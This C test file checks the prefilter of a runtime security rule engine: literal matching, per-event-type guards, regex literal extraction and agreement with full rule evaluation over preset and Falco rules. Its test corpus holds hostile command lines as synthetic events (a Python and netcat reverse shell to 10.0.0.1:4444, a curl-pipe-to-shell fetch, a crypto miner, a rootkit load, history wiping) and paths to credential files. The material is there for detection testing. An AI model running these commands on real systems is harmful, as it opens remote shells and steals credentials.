/*
 * test_prefilter.c - the rule prefilter: the multi-literal matcher against
 * a naive search, the guard each condition gets for each event type, and
 * the engine (which skips rules whose guard does not hold) against plain
 * evaluation of every rule, over the shipped presets and Falco's rules
 * and a corpus of events made to meet their literals.
 */
#include "test_util.h"
#include "test_records.h"
#include "test_rule_harness.h"

#include <fcntl.h>
#include <sys/syscall.h>

#define PCRE2_CODE_UNIT_WIDTH 8
#include <pcre2.h>

#include "multimatch.h"
#include "prefilter.h"

#define PRESETS TOP_DIR "/presets"
#define FALCO_RULES TOP_DIR "/../shared/third_party/falco/falco_rules.yaml"

/* --- the matcher ----------------------------------------------------------------------------- */

static void random_text(unsigned *seed, char *out, size_t n)
{
	static const char alphabet[] = "ab/c.";

	for (size_t i = 0; i < n; i++)
		out[i] = alphabet[rand_r(seed) % (sizeof(alphabet) - 1)];
	out[n] = 0;
}

/* random literal sets over a small alphabet (many overlaps, shared prefixes and suffixes) */
static void test_multimatch_finds_what_memmem_finds(void **state)
{
	unsigned seed = 12345;

	(void)state;
	for (int round = 0; round < 200; round++) {
		struct multimatch *m = multimatch_new();
		char lits[40][8], text[64];
		size_t nlits = 1 + rand_r(&seed) % 40;
		uint32_t marks[40] = { 0 };

		for (size_t i = 0; i < nlits; i++) {
			random_text(&seed, lits[i], 1 + rand_r(&seed) % 6);
			multimatch_add(m, lits[i], strlen(lits[i]), (uint32_t)i);
		}
		multimatch_build(m);
		for (int t = 0; t < 50; t++) {
			uint32_t mark = (uint32_t)(round * 100 + t + 1);

			random_text(&seed, text, rand_r(&seed) % 40);
			multimatch_scan(m, text, strlen(text), marks, mark);
			for (size_t i = 0; i < nlits; i++) {
				bool want = memmem(text, strlen(text), lits[i], strlen(lits[i])) != NULL;

				if ((marks[i] == mark) != want)
					fail_msg("'%s' in '%s': marked %d, memmem %d", lits[i], text, marks[i] == mark, want);
			}
		}
		multimatch_free(m);
	}
}

/* one id for several literals, the same literal for several ids, a value that holds many */
static void test_multimatch_ids(void **state)
{
	struct multimatch *m = multimatch_new();
	uint32_t marks[4] = { 0 };

	(void)state;
	multimatch_add(m, "/etc/", 5, 0);
	multimatch_add(m, "shadow", 6, 0);
	multimatch_add(m, "shadow", 6, 1);
	multimatch_add(m, "dow", 3, 2);
	multimatch_add(m, "xyz", 3, 3);
	multimatch_build(m);
	multimatch_scan(m, "/etc/shadow", 11, marks, 7);
	assert_int_equal(marks[0], 7);
	assert_int_equal(marks[1], 7);
	assert_int_equal(marks[2], 7);
	assert_int_equal(marks[3], 0);
	multimatch_scan(m, "window", 6, marks, 8);
	assert_int_equal(marks[2], 8);
	assert_int_equal(marks[0], 7);
	multimatch_scan(m, "", 0, marks, 9);
	assert_int_equal(marks[2], 8);
	multimatch_free(m);
}

/* --- guards ---------------------------------------------------------------------------------- */

struct guard_case {
	const char *cond;
	const char *type;    /* event type the guard is for */
	const char *want;    /* guard_text, or "none" / "never" */
};

static const struct guard_case guard_cases[] = {
	{ "fd.name = /etc/shadow", "openat", "fd.name contains /etc/shadow" },
	{ "fd.name startswith /etc/cron", "openat", "fd.name contains /etc/cron" },
	{ "fd.name endswith .pem", "openat", "fd.name contains .pem" },
	{ "proc.cmdline contains xmrig", "execve", "proc.cmdline contains xmrig" },
	{ "proc.name in (nc, ncat)", "execve", "proc.name contains ncat, nc" },  /* in the set's order */
	/* literals are cut to their last 16 bytes: still in every value that holds the whole */
	{ "fd.name = /var/lib/kubelet/pki/kubelet.key", "openat", "fd.name contains /pki/kubelet.key" },
	/* pmatch: directories without their trailing slashes; wildcards: the longest fixed run, the last of equals */
	{ "fd.name pmatch (/etc/cron.d/, /*/etc/ssh)", "openat", "fd.name contains /etc/cron.d, /etc/ssh" },
	{ "fd.name pmatch (/usr/lib/*/security)", "openat", "fd.name contains /security" },
	{ "fd.name glob '*/.ssh/id_*'", "openat", "fd.name contains /.ssh/id_" },
	{ "fd.name glob '*/[abc]x/*.key'", "openat", "fd.name contains .key" },
	/* what implies nothing */
	{ "fd.name glob '*/x\\\\*y'", "openat", "none" },
	{ "fd.name glob '*/[abc'", "openat", "none" },
	{ "fd.name pmatch (/)", "openat", "none" },
	{ "fd.name != /etc/shadow", "openat", "none" },
	{ "not fd.name = /etc/shadow", "openat", "none" },
	{ "fd.name icontains shadow", "openat", "none" },
	/* regex: the longest plain run at the top level of every match */
	{ "fd.name regex '/etc/.*'", "openat", "fd.name contains /etc/" },
	{ "evt.abspath regex '/proc/1/(root|cwd|ns)(/.*)?'", "openat", "evt.abspath contains /proc/1/" },
	{ "fd.name regex '(?s).*(/etc/shadow).*'", "openat", "none" },     /* only inside a group */
	{ "fd.name regex '/etc/(cron|at)\\.d/x[a-z]+\\.confz?'", "openat", "fd.name contains .conf" },
	{ "fd.name regex '/usr/bin/ab+cd'", "openat", "fd.name contains /usr/bin/ab" },
	{ "fd.name regex 'abcde{0,2}/x'", "openat", "fd.name contains abcd" },
	{ "fd.name regex '[[:alpha:]abcdefgh]yz'", "openat", "fd.name contains yz" },
	{ "fd.name regex '/etc/shadow|/etc/gshadow'", "openat", "none" },  /* alternation at the top */
	{ "fd.name regex '(?i)/etc/shadow'", "openat", "none" },           /* case-insensitive */
	{ "fd.name regex '/etc(?i)/shadow'", "openat", "none" },
	{ "fd.name regex '\\x2fetc\\x2fshadow'", "openat", "none" },       /* escapes with arguments */
	{ "fd.name regex '\\d+/etc'", "openat", "fd.name contains /etc" },
	{ "fd.name regex 'ab(?=cd)cd'", "openat", "none" },                 /* lookahead */
	{ "fd.name regex '/etc/caf\u00e9?/x'", "openat", "fd.name contains /etc/caf" },  /* é? is two bytes */
	{ "fd.name in (/etc/shadow, /)", "openat", "none" },   /* one literal too short: the set implies nothing */
	{ "tolower(fd.name) = /etc/shadow", "openat", "none" },
	{ "proc.aname = sshd", "execve", "none" },              /* several values */
	{ "proc.pid = 1", "execve", "none" },
	/* and: the part with the longest shortest literal */
	{ "fd.name startswith /etc/ and fd.filename = shadow", "openat", "fd.filename contains shadow" },
	{ "fd.name contains ab and proc.name = cat", "openat", "proc.name contains cat" },
	/* or: the union, across fields too; one part without a guard spoils it */
	{ "fd.name = /etc/shadow or fd.filename = gshadow", "openat",
	  "fd.name contains /etc/shadow; fd.filename contains gshadow" },
	{ "fd.name = /etc/shadow or proc.pid = 1", "openat", "none" },
	/* per event type: branches for other types drop out */
	{ "(evt.type = openat and fd.name = /etc/a) or (evt.type = rename and evt.abspath.dst = /etc/b)", "openat",
	  "fd.name contains /etc/a" },
	{ "(evt.type = openat and fd.name = /etc/a) or (evt.type = rename and evt.abspath.dst = /etc/b)", "rename",
	  "evt.abspath.dst contains /etc/b" },
	{ "(evt.type = openat and fd.name = /etc/a) or (evt.type = rename and evt.abspath.dst = /etc/b)", "execve",
	  "never" },
	{ "evt.type != openat and proc.name = cat", "openat", "never" },
	{ "not evt.type = openat and proc.name = cat", "openat", "never" },
	{ "not evt.type = openat and proc.name = cat", "execve", "proc.name contains cat" },
	{ "evt.type = execve and evt.dir = >", "execve", "never" },
};

static void test_guards(void **state)
{
	int bad = 0;

	(void)state;
	for (size_t i = 0; i < sizeof(guard_cases) / sizeof(guard_cases[0]); i++) {
		const struct guard_case *c = &guard_cases[i];
		struct rule_engine *e = engine_of(c->cond, "o");
		struct guard g;
		char *got;

		switch (cond_guard(e->rules[0].cond, evttype_id(c->type), &g)) {
		case GUARD_SOME:
			got = guard_text(&g);
			guard_free(&g);
			break;
		case GUARD_NEVER:
			got = strdup("never");
			break;
		default:
			got = strdup("none");
			break;
		}
		if (strcmp(got, c->want) != 0) {
			print_error("  '%s' for %s\n    got:  %s\n    want: %s\n", c->cond, c->type, got, c->want);
			bad++;
		}
		free(got);
		rule_engine_free(e);
	}
	if (bad)
		fail_msg("%d of %zu guards wrong", bad, sizeof(guard_cases) / sizeof(guard_cases[0]));
}

/* --- regex literals against generated patterns ------------------------------------------------ */

/*
 * Random patterns from a small grammar (plain characters, '.', classes,
 * groups with alternatives, quantifiers), each with random strings it
 * matches, built from the same tree: PCRE2 must match every one of them
 * (the generator is right), and every one must contain the literal the
 * prefilter takes from the pattern (the guard is right).
 */
enum { RX_CHAR, RX_ANY, RX_CLASS, RX_GROUP };

struct rx {
	int kind, min, max;  /* repetitions */
	char c;
	struct rx *alt[2];   /* RX_GROUP: one or two alternatives, each a sequence */
	struct rx *next;     /* the rest of the sequence */
};

static struct rx *rx_seq(unsigned *seed, int depth)
{
	struct rx *head = NULL, **tail = &head;
	int n = 1 + rand_r(seed) % 5;

	for (int i = 0; i < n; i++) {
		struct rx *x = calloc(1, sizeof(*x));
		int pick = rand_r(seed) % 20, q = rand_r(seed) % 10;

		x->kind = pick < 13 ? RX_CHAR : pick < 14 ? RX_ANY : pick < 16 ? RX_CLASS : depth < 2 ? RX_GROUP : RX_CHAR;
		x->c = "ab/-"[rand_r(seed) % 4];
		if (x->kind == RX_GROUP) {
			x->alt[0] = rx_seq(seed, depth + 1);
			x->alt[1] = rand_r(seed) % 2 ? rx_seq(seed, depth + 1) : NULL;
		}
		x->min = x->max = 1;
		if (q == 0)
			x->min = 0;                   /* ? */
		else if (q == 1)
			x->min = 0, x->max = 3;       /* * */
		else if (q == 2)
			x->max = 3;                   /* + */
		else if (q == 3)
			x->min = 0, x->max = 2;       /* {0,2} */
		*tail = x;
		tail = &x->next;
	}
	return head;
}

static void rx_text(const struct rx *x, char *out)
{
	for (; x; x = x->next) {
		switch (x->kind) {
		case RX_CHAR: strncat(out, &x->c, 1); break;
		case RX_ANY: strcat(out, "."); break;
		case RX_CLASS: strcat(out, "[ab]"); break;
		case RX_GROUP:
			strcat(out, "(");
			rx_text(x->alt[0], out);
			if (x->alt[1]) {
				strcat(out, "|");
				rx_text(x->alt[1], out);
			}
			strcat(out, ")");
			break;
		}
		if (x->min == 0 && x->max == 1)
			strcat(out, "?");
		else if (x->min == 0 && x->max == 3)
			strcat(out, "*");
		else if (x->max == 3)
			strcat(out, "+");
		else if (x->max == 2)
			strcat(out, "{0,2}");
	}
}

static void rx_sample(const struct rx *x, unsigned *seed, char *out)
{
	for (; x; x = x->next) {
		int times = x->min + rand_r(seed) % (x->max - x->min + 1);

		for (int t = 0; t < times; t++) {
			switch (x->kind) {
			case RX_CHAR: strncat(out, &x->c, 1); break;
			case RX_ANY: strncat(out, &"xyz/"[rand_r(seed) % 4], 1); break;
			case RX_CLASS: strncat(out, &"ab"[rand_r(seed) % 2], 1); break;
			case RX_GROUP:
				rx_sample(x->alt[1] && rand_r(seed) % 2 ? x->alt[1] : x->alt[0], seed, out);
				break;
			}
		}
	}
}

static void rx_free(struct rx *x)
{
	while (x) {
		struct rx *next = x->next;

		rx_free(x->alt[0]);
		rx_free(x->alt[1]);
		free(x);
		x = next;
	}
}

static void test_regex_literals_of_generated_patterns(void **state)
{
	unsigned seed = 20261129;
	int guarded = 0;

	(void)state;
	for (int i = 0; i < 3000; i++) {
		struct rx *x = rx_seq(&seed, 0);
		char pat[4096] = "", cond[4200], lit[64] = "";
		struct rule_engine *e;
		struct guard g;
		int errcode;
		PCRE2_SIZE off;
		pcre2_code *re;
		pcre2_match_data *md;

		rx_text(x, pat);
		snprintf(cond, sizeof(cond), "fd.name regex '%s'", pat);
		e = engine_of(cond, "o");
		if (cond_guard(e->rules[0].cond, evttype_id("openat"), &g) == GUARD_SOME) {
			char *text = guard_text(&g);

			assert_int_equal(sscanf(text, "fd.name contains %63[^,;]", lit), 1);
			assert_string_equal(text + strlen("fd.name contains "), lit);  /* one literal */
			free(text);
			guard_free(&g);
			guarded++;
		}
		re = pcre2_compile((PCRE2_SPTR)pat, PCRE2_ZERO_TERMINATED, PCRE2_ANCHORED | PCRE2_ENDANCHORED,
				   &errcode, &off, NULL);
		assert_non_null(re);
		md = pcre2_match_data_create_from_pattern(re, NULL);
		for (int k = 0; k < 20; k++) {
			char sample[4096] = "";

			rx_sample(x, &seed, sample);
			if (pcre2_match(re, (PCRE2_SPTR)sample, strlen(sample), 0, 0, md, NULL) < 0)
				fail_msg("generator: '%s' does not match '%s'", sample, pat);
			if (lit[0] && !strstr(sample, lit))
				fail_msg("'%s' matches '%s' but lacks its guard literal '%s'", sample, pat, lit);
		}
		pcre2_match_data_free(md);
		pcre2_code_free(re);
		rule_engine_free(e);
		rx_free(x);
	}
	/* the test means something only if many patterns got a guard */
	if (guarded < 500)
		fail_msg("only %d of 3000 generated patterns got a guard", guarded);
	print_message("    %d of 3000 generated patterns guarded\n", guarded);
}

/* --- the engine against every rule evaluated -------------------------------------------------- */

/* processes of the corpus: name, executable, argv (spaces separate arguments), parent */
static const struct {
	const char *comm, *exe, *args;
	uint32_t ppid;
} corpus_procs[] = {
	{ "cat", "/usr/bin/cat", "cat /etc/shadow", PID_BASH },
	{ "vim", "/usr/bin/vim", "vim /etc/crontab", PID_BASH },
	{ "python3", "/usr/bin/python3", "python3 -c import socket,os,pty;s=socket.socket();s.connect((\"10.0.0.1\",4444))", PID_BASH },
	{ "nc", "/usr/bin/nc", "nc -e /bin/sh 10.0.0.1 4444", PID_BASH },
	{ "sh", "/bin/sh", "sh -c curl http://x.example/a.sh | sh", PID_SSHD },
	{ "xmrig", "/tmp/xmrig", "xmrig -o stratum+tcp://pool.minexmr.com:4444 --donate-level 1", PID_BASH },
	{ "dpkg", "/usr/bin/dpkg", "dpkg -i x.deb", PID_BASH },
	{ "sshd", "/usr/sbin/sshd", "sshd -D", 1 },
	{ "grep", "/usr/bin/grep", "grep -r password /home", PID_BASH },
	{ "find", "/usr/bin/find", "find / -name id_rsa", PID_BASH },
	{ "base64", "/usr/bin/base64", "base64 -d", PID_BASH },
	{ "nsenter", "/usr/bin/nsenter", "nsenter -t 1 -m -u -i -n sh", PID_BASH },
	{ "insmod", "/usr/sbin/insmod", "insmod rootkit.ko", PID_BASH },
	{ "crontab", "/usr/bin/crontab", "crontab -e", PID_BASH },
	{ ".hidden", "/tmp/.x/.hidden", ".hidden", PID_BASH },
	{ "kubectl", "/usr/local/bin/kubectl", "kubectl get pods", PID_BASH },
	{ "nmap", "/usr/bin/nmap", "nmap -sS 10.0.0.0/24", PID_BASH },
	{ "shred", "/usr/bin/shred", "shred -u /root/.bash_history", PID_BASH },
	{ "gcc", "/usr/bin/gcc", "gcc -c x.c -o x.o", PID_BASH },
};

static const char *const corpus_paths[] = {
	"/etc/shadow", "/etc/gshadow", "/etc/passwd", "/etc/sudoers", "/etc/sudoers.d/extra", "/etc/pam.d/sshd",
	"/etc/security/limits.conf", "/etc/crontab", "/etc/cron.d/job", "/var/spool/cron/crontabs/root",
	"/etc/systemd/system/x.service", "/lib/systemd/system/y.service", "/root/.bashrc", "/home/u/.profile",
	"/root/.ssh/authorized_keys", "/root/.ssh/id_rsa", "/home/u/.ssh/id_ed25519", "/etc/ssh/sshd_config",
	"/etc/ssh/ssh_host_rsa_key", "/etc/ld.so.preload", "/etc/hosts", "/var/log/syslog", "/var/log/auth.log",
	"/root/.bash_history", "/home/u/.aws/credentials", "/root/.kube/config", "/etc/kubernetes/admin.conf",
	"/var/run/secrets/kubernetes.io/serviceaccount/token", "/proc/1/environ", "/proc/1/root/etc/shadow",
	"/tmp/.hidden", "/dev/shm/x", "/etc/udev/rules.d/99-x.rules", "/etc/modules-load.d/x.conf",
	"/usr/lib/x86_64-linux-gnu/libc.so.6", "/usr/include/stdio.h", "/work/x.c", "/sys/fs/cgroup/release_agent",
	"/etc/rc.local", "/etc/init.d/x", "/etc/profile.d/x.sh", "/usr/bin/ls", "/bin/su",
};

struct corpus {
	struct rig g;
	struct rule_engine *e;
	uint32_t pid;
	uint64_t ts;
	size_t events, matches, rules_matched;
	bool *matched;          /* per rule: matched at least once */
};

/* the engine's matches for an event against each indexed rule's own evaluation */
static void check_event(struct corpus *c, const struct event *ev)
{
	struct rule_engine *e = c->e;
	struct eval_state st;
	size_t want = 0, got;

	if (ev->type < 0 || ev->type >= EVT_MAX)
		return;
	eval_state_of(&st, e, &c->g);
	for (uint32_t i = 0; i < e->nby_type[ev->type]; i++) {
		struct rule *r = e->by_type[ev->type][i];

		eval_begin(&st);
		if (cond_eval(&st, r->cond, ev)) {
			want++;
			if (!c->matched[r - e->rules]) {
				c->matched[r - e->rules] = true;
				c->rules_matched++;
			}
		}
	}
	got = rule_engine_eval(e, &st, ev, NULL, NULL);
	eval_state_free(&st);
	arena_reset(&c->g.eval_arena);
	if (got != want)
		fail_msg("event %zu (type %s): the engine matched %zu rules, plain evaluation %zu", c->events,
			 evttype_name(ev->type), got, want);
	c->events++;
	c->matches += got;
}

static uint32_t corpus_exec(struct corpus *c, size_t k)
{
	char argv[512];
	size_t n = strlen(corpus_procs[k].args);
	uint32_t pid = ++c->pid;

	memcpy(argv, corpus_procs[k].args, n + 1);
	for (size_t i = 0; i < n; i++)
		argv[i] = argv[i] == ' ' ? '\0' : argv[i];
	const struct exec_spec s = { .pid = pid, .ppid = corpus_procs[k].ppid, .ts = ++c->ts,
				     .comm = corpus_procs[k].comm, .exe = corpus_procs[k].exe, .args = argv,
				     .args_len = n + 1, .cwd = "/root", .uid = k % 2 ? 1000 : 0,
				     .euid = k % 2 ? 1000 : 0, .auid = 1000 };

	check_event(c, rig_event(&c->g, build_exec(&c->g.r, &s)));
	return pid;
}

static void corpus_syscall(struct corpus *c, uint32_t pid, int nr, int64_t ret, uint64_t a1, uint64_t a2,
			   const char *s0, const char *s1, const struct vg_fdinfo *fi)
{
	const struct sc_spec s = { .pid = pid, .ts = ++c->ts, .nr = nr, .ret = ret,
				   .args = { (uint64_t)(int64_t)AT_FDCWD, a1, a2 }, .str = { s0, s1 },
				   .fdinfo = fi, .uid = pid % 2 ? 1000 : 0, .euid = pid % 2 ? 1000 : 0 };

	check_event(c, rig_event(&c->g, build_syscall(&c->g.r, &s)));
}

static void run_corpus(struct rule_engine *e, size_t min_rules)
{
	struct corpus *c = calloc(1, sizeof(*c));
	static const uint64_t open_flags[] = { O_RDONLY, O_WRONLY | O_CREAT | O_TRUNC, O_RDWR | O_APPEND };

	assert_non_null(c);
	rig_init(&c->g);
	c->e = e;
	c->pid = 1000;
	c->ts = 1000;
	c->matched = calloc(e->nrules ? e->nrules : 1, sizeof(*c->matched));
	for (size_t k = 0; k < sizeof(corpus_procs) / sizeof(corpus_procs[0]); k++) {
		uint32_t pid = corpus_exec(c, k);

		for (size_t p = 0; p < sizeof(corpus_paths) / sizeof(corpus_paths[0]); p++) {
			const char *path = corpus_paths[p];
			struct vg_fdinfo fi = fdinfo_of(3, VG_FT_FILE, 100 + p);

			for (size_t f = 0; f < sizeof(open_flags) / sizeof(open_flags[0]); f++) {
				corpus_syscall(c, pid, SYS_openat, 3, (uintptr_t)0, open_flags[f] | (f ? 0 : O_CLOEXEC),
					       path, NULL, &fi);
				corpus_syscall(c, pid, SYS_close, 0, 0, 0, NULL, NULL, &fi);
			}
			corpus_syscall(c, pid, SYS_openat, -2, 0, O_RDONLY, path, NULL, NULL);
			corpus_syscall(c, pid, SYS_rename, 0, 0, 0, "/tmp/new", path, NULL);
			corpus_syscall(c, pid, SYS_symlink, 0, 0, 0, path, "/tmp/link", NULL);
			corpus_syscall(c, pid, SYS_unlink, 0, 0, 0, path, NULL, NULL);
			corpus_syscall(c, pid, SYS_chmod, 0, 04755, 0, path, NULL, NULL);
		}
	}
	print_message("    %zu events, %zu matches, %zu of %zu rules matched at least once\n", c->events, c->matches,
		      c->rules_matched, e->nenabled);
	/* a corpus that matched nothing would prove nothing */
	assert_true(c->rules_matched >= min_rules);
	free(c->matched);
	rig_free(&c->g);
	free(c);
}

static struct rule_engine *load(const char *path)
{
	const char *enable[] = { "*" };
	struct rule_selection sel = selection_all();
	struct diags d = { 0 };
	struct ruleset_src rs;
	struct rule_engine *e;

	sel.enable_rules = enable;  /* incubating and sandbox rules too */
	sel.nenable_rules = 1;
	if (ruleset_load(&path, 1, &rs, &d) != 0) {
		diag_print(&d, stderr);
		fail_msg("%s did not load", path);
	}
	e = rule_engine_build(&rs, &sel, &d);
	if (!e) {
		diag_print(&d, stderr);
		fail_msg("%s did not build", path);
	}
	diags_free(&d);
	return e;
}

static void test_engine_matches_every_rule_presets(void **state)
{
	struct rule_engine *e = load(PRESETS);

	(void)state;
	assert_true(e->pf.nguards > 0);
	run_corpus(e, 25);
	rule_engine_free(e);
}

static void test_engine_matches_every_rule_falco(void **state)
{
	struct rule_engine *e = load(FALCO_RULES);

	(void)state;
	run_corpus(e, 3);
	rule_engine_free(e);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_multimatch_finds_what_memmem_finds),
		cmocka_unit_test(test_multimatch_ids),
		cmocka_unit_test(test_guards),
		cmocka_unit_test(test_regex_literals_of_generated_patterns),
		cmocka_unit_test(test_engine_matches_every_rule_presets),
		cmocka_unit_test(test_engine_matches_every_rule_falco),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
